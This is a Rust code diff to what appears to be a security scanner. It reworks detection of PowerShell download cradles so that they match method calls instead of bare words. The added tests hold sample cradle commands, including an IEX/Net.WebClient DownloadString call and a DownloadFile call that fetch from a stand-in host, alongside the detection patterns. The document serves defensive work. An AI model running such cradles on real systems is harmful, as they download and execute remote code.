@@ -1079,29 +1079,27 @@ static ALIAS_WORD: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"al
 static FOR_WORD: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"for"));
 static IF_WORD: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new(b"if"));
 
-/// PowerShell download cradles and decoders (`downloadstring`, `downloadfile`,
-/// `frombase64string`) and `net.webclient`: plain words, so looked for in every value, from
-/// their rarest letters.
-fn cradle(s: &[u8]) -> Option<Range<usize>> {
-    memchr::memchr2_iter(b'w', b'b', s).find_map(|p| {
-        if s[p] == b'w' {
-            let at = p.checked_sub(2)?;
-            let rest = &s[at..];
-            if rest.starts_with(b"downloadstring") {
-                return Some(at..at + 14);
-            }
-            if rest.starts_with(b"downloadfile") {
-                return Some(at..at + 12);
-            }
-            let at = p.checked_sub(4)?;
+/// PowerShell download cradles and decoders, called as methods (`.DownloadString(`,
+/// `.DownloadFile(`, `::FromBase64String(`), and `Net.WebClient`: found from the `(` or `.`
+/// they hold, rarer than their letters.
+fn cradle(s: &[u8], features: Features) -> Option<Range<usize>> {
+    const CALLS: [&[u8]; 3] = [b"downloadstring", b"downloadfile", b"frombase64string"];
+    let call = if features.any(Features::PAREN) {
+        memchr::memchr_iter(b'(', s).find_map(|p| {
+            let before = &s[..p];
+            let name = CALLS.iter().find(|name| before.ends_with(name))?;
+            Some(p - name.len()..p)
+        })
+    } else {
+        None
+    };
+    let webclient = || {
+        memchr::memchr_iter(b'.', s).find_map(|p| {
+            let at = p.checked_sub(3)?;
             s[at..].starts_with(b"net.webclient").then_some(at..at + 13)
-        } else {
-            let at = p.checked_sub(4)?;
-            s[at..]
-                .starts_with(b"frombase64string")
-                .then_some(at..at + 16)
-        }
-    })
+        })
+    };
+    call.or_else(|| features.any(Features::DOT).then(webclient).flatten())
 }
 
 #[allow(clippy::expect_used)] // a constant pattern: a failure is a bug caught by the tests
@@ -1140,8 +1138,12 @@ fn first_ending(a: Option<Range<usize>>, b: Option<Range<usize>>) -> Option<Rang
 
 /// Download cradles, `%comspec%`, `-encodedcommand`.
 fn windows(s: &[u8], features: Features) -> Option<Range<usize>> {
-    // The shortest cradle name is 12 bytes long.
-    let mut windows = if s.len() >= 12 { cradle(s) } else { None };
+    // The shortest cradle is 13 bytes long.
+    let mut windows = if s.len() >= 13 {
+        cradle(s, features)
+    } else {
+        None
+    };
     if features.any(Features::ESCAPE) {
         let comspec = memchr::memchr_iter(b'%', s)
             .find(|&p| s[p..].starts_with(b"%comspec%"))
@@ -1418,7 +1420,16 @@ mod tests {
             };
             assert_eq!(ids(quick), ids(all), "{value}");
         }
-        assert_eq!(hits("downloadstring"), ["command.windows"]);
+        assert_eq!(hits("net.webclient"), ["command.windows"]);
+        for cradle in [
+            "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
+            "$c.DownloadFile('http://x.example/a','a.exe')",
+            "[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ='))",
+        ] {
+            assert!(hits(cradle).contains(&"command.windows"), "{cradle}");
+        }
+        // The method's name alone is not a call.
+        assert!(hits("downloadstring").is_empty());
         assert_eq!(hits("-EncodedCommand"), ["command.windows"]);
     }
 
